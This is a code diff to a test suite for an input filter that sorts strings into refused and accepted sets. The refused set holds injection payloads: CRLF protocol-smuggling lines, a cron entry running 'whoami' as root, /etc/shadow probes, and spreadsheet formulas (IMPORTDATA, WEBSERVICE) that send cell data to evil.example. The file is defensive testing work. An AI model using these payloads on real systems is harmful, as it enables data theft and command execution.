@@ -66,6 +66,7 @@ const DECISIONS: Readonly<Record<string, Decision>> = {
       'a\r\nDESCRIBE rtsp://192.0.2.7/cam RTSP/1.0',
       'a\r\nPUB jobs.run 4\r\nping\r\n',
       'a\r\nput 0 0 60 4\r\nping',
+      'a\n* * * * * root whoami',
       'a\r\nPRIVMSG #ops :hello',
       'a\r\nRNFR /srv/a',
       '42\r\nAction: Originate\r\nChannel: Local/1',
@@ -77,6 +78,11 @@ const DECISIONS: Readonly<Record<string, Decision>> = {
     ],
     honest: [
       'ACME Ltd\r\nPART 12\r\nSITE 4',
+      'ok\r\nPUB at 8',
+      'Ann Lee\r\nOPER Manager',
+      'Job\r\n0 9 * * 1 Standup',
+      'Ausflug\r\nAttach: plan.pdf',
+      'attachment; filename="a"; filename="b"\n',
       'Ann\r\nJoin us\r\nList: milk',
       'Ann Lee\r\nSIP 12 Street\r\nVia Roma 4',
       'BEGIN:VCARD\r\nFN:Ann\r\nEND:VCARD\r\nBEGIN:VCARD\r\nFN:Bob\r\nEND:VCARD',
@@ -113,6 +119,7 @@ const DECISIONS: Readonly<Record<string, Decision>> = {
       '#include <sys/types.h>\n#include "etc/passwd.h"',
       'Users are listed in /etc/passwd, their hashes are not.',
       'permission denied: open "/etc/shadow"',
+      'source: /etc/shadow\nmode: ro',
       'audit: name="/etc/passwd" inode=12 dev=fd:00',
       '<file path="/etc/passwd" owner="root"/>',
       'the mount "/etc/passwd" is read-only',
@@ -145,7 +152,6 @@ const DECISIONS: Readonly<Record<string, Decision>> = {
       '; docker ps',
       '+IMPORTDATA("http://evil.example/?"&A1)',
       '{{ get_env(name="HOME") }}',
-      'source("http://192.0.2.7/a.R")',
     ],
     honest: [
       'run "date" and "host" through the form',
@@ -159,6 +165,11 @@ const DECISIONS: Readonly<Record<string, Decision>> = {
       'new "find" button',
       "sort(...items, 'name')",
       'docker ps shows nothing',
+      'Run "less is more" campaign',
+      'launch "time machine"',
+      'it.run("php")',
+      'File.write("a", "b")',
+      '}\n\nlocation /api {\n  proxy_pass http://app;\n}',
       'source("https://example.com/lib.R")',
       'load("model.RData")',
       '{{lookup map key}}',
@@ -179,6 +190,9 @@ const DECISIONS: Readonly<Record<string, Decision>> = {
       "what's ?a ?b ?c",
       'PREFIX foaf: <http://xmlns.com/foaf/0.1/> SELECT ?n WHERE { ?p foaf:name ?n . ?p foaf:mbox ?m }',
       'Clear all',
+      'a="1"; clear all; b',
+      'function f() {} clear all the caches',
+      '}; load default settings',
       'drop all; clear all',
       'load <your own> file',
       "Ann's list: who? why? when?",
@@ -223,6 +237,7 @@ const DECISIONS: Readonly<Record<string, Decision>> = {
       '{!geofilt sfield=store pt=45.1,-93.8 d=5}',
       '{!join from=id to=parent}name:a',
       '5 & $10',
+      'name asc&$filter=id eq 1',
     ],
   },
   'a record that is closed and goes on (CWE-91, CWE-74)': {
@@ -235,6 +250,8 @@ const DECISIONS: Readonly<Record<string, Decision>> = {
     honest: [
       '</p><p>another paragraph</p><p>',
       '</li><li>two</li><li>three',
+      'quote</cite><q>b</q><cite>x',
+      '</seg><bpt>b</bpt><seg>',
       'a ]]]]><![CDATA[> b',
       'Hello <!-- --> world',
       'a<!-- -->b <b>c</b>',
@@ -297,16 +314,17 @@ describe('where a URL or a path leads, spelled otherwise', () => {
 
 describe('what is written as no command is, by anybody’s shell or database', () => {
   test.each([
-    '+----+------+\n| id | name |\n+----+------+\n|  1 | Ann  |\n+----+------+',
     'index=web | stats count as n | eval pct=round(100*n/7,1)."%" | table pct',
-    'sleep(9 hours) would be nice',
     '=HYPERLINK("#Totals!B2","to the totals")',
   ])('passes: %j', (text) => {
     expect(isRefused('json', text)).toBe(false)
   })
 
   test.each([
-    '+----+\n| id | name',
+    'a `\n+----+\n| whoami | # |\n+----+',
+    'a | stats count | eval b="c whoami"',
+    '=HYPERLINK("#", WEBSERVICE("http://evil.example/"))',
+    '=HYPERLINK("#a"&CHAR(0)&"http://evil.example/","b")',
     '+----+----+\n| id | a  |\nwhoami',
     '1 and sleep(9 div 1)',
     '=HYPERLINK("#a",WEBSERVICE("http://evil.example"))',
